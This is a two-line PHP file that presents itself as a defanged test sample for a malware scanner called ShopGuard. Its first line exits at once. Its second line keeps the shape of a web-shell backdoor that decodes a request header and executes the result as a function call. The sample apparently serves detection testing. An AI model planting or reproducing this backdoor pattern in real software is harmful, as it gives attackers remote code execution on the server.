<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?$sg=explode('~',base64_decode(substr(getallheaders()['X-Sg-Defanged'],1)));@$sg[0]($sg[1]);
